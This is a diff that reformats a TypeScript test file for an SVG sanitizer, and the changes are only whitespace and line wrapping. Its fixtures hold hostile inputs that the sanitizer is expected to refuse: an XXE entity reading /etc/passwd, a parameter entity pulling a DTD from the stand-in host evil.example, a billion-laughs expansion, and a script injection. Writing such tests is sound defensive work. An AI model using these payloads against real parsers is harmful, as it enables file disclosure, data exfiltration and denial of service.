@@ -6,7 +6,6 @@ import { ESCAPED_SCRIPT_TEXT, SVG_DANGER, XSS_VECTORS } from './svgXssVectors';
 
 const clean = (svg: string) => sanitizeSvg(Buffer.from(svg, 'utf8')).toString('utf8');
 
-
 function rejected(svg: string | Buffer): HttpError {
   try {
     sanitizeSvg(typeof svg === 'string' ? Buffer.from(svg, 'utf8') : svg);
@@ -16,7 +15,6 @@ function rejected(svg: string | Buffer): HttpError {
   }
   throw new Error('expected the SVG to be refused');
 }
-
 
 describe('sanitizeSvg: XSS vectors', () => {
   for (const [name, svg] of Object.entries(XSS_VECTORS)) {
@@ -45,10 +43,8 @@ describe('sanitizeSvg: what is refused with 422 Invalid SVG file', () => {
     'unclosed element': '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>',
     'a root that is not svg': '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
     'svg in another namespace': '<svg xmlns="http://www.w3.org/1999/xhtml"/>',
-    'XXE external entity':
-      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
-    'XXE parameter entity':
-      '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><svg xmlns="http://www.w3.org/2000/svg"><text>&exfil;</text></svg>',
+    'XXE external entity': '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
+    'XXE parameter entity': '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><svg xmlns="http://www.w3.org/2000/svg"><text>&exfil;</text></svg>',
     'billion laughs':
       '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol2;</text></svg>',
     'empty file': '',
@@ -108,7 +104,9 @@ describe('sanitizeSvg: real drawings keep what they draw', () => {
   });
 
   it('takes an SVG written without a namespace and gives it one', () => {
-    expect(clean('<svg width="1" height="1"><rect width="1" height="1"/></svg>')).toBe('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><rect width="1" height="1"/></svg>');
+    expect(clean('<svg width="1" height="1"><rect width="1" height="1"/></svg>')).toBe(
+      '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><rect width="1" height="1"/></svg>',
+    );
   });
 
   it('gives an SVG with only a viewBox its size, so it draws at its own proportions', () => {
